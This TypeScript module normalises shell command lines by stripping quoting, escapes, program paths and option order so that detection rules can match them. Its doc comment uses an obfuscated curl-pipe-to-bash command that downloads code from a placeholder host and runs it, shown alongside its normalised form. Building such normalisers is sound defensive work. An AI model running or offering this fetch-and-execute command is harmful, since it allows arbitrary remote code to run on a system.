/**
 * A command line in one form: what differs only in quoting, variables, order of options, path of the program or encoding has the same. Rules
 * ask for it as the field `NormalCommandLine`; `shapeOfCommand` compares command lines with one another.
 *
 *     sudo 'cu'rl -sL http://x/a|ba\sh      sudo curl -sL http://x/a ; curl -sL http://x/a | bash
 *
 * Programs are joined by ` | ` where one reads what the other prints, and by ` ; ` otherwise; programs that others start follow them. Bounded:
 * `MAX_NORMAL` characters. Tested in normal-form.test.ts.
 */
import { interpret, interpretArguments } from './interpret.js';
import type { Execution } from './interpret.js';
import { orderedOptions } from './options.js';

export const MAX_NORMAL = 16_384;

export function normalForm(line: string): string {
  return written(interpret(line));
}

export function normalFormOf(argv: readonly string[]): string {
  return written(interpretArguments(argv));
}

function written(executions: readonly Execution[]): string {
  let text = '';
  for (const execution of executions) {
    if (text !== '') text += execution.joint === 'pipe' ? ' | ' : ' ; ';
    text += one(execution);
    if (text.length > MAX_NORMAL) return text.slice(0, MAX_NORMAL);
  }
  return text;
}

/** Folders of the system: a program elsewhere keeps its path, which says more than its name. */
const systemPath = /^(?:\/usr(?:\/local)?)?\/s?bin\/(?=[^/]+$)/;

function one({ argv, assignments, redirects, revealed }: Execution): string {
  const parts = [
    ...assignments.map(([name, value]) => `${name}=${value}`),
    ...(argv.length === 0 ? [] : [argv[0]!.replace(systemPath, ''), ...argv.slice(1)]),
    ...redirects.map(({ operator, target }) => `${operator}${target}`),
    ...revealed.map((text) => `#= ${text}`),
  ];
  return parts.join(' ');
}

/** For comparison: options taken apart and sorted, programs without their paths. What is not an option keeps its order. */
export function shapeOfCommand(line: string): string {
  return interpret(line)
    .map((execution) =>
      one({
        ...execution,
        argv: execution.argv.length === 0 ? [] : [execution.argv[0]!, ...orderedOptions(execution.program, execution.argv.slice(1))],
      }),
    )
    .join(' ; ');
}
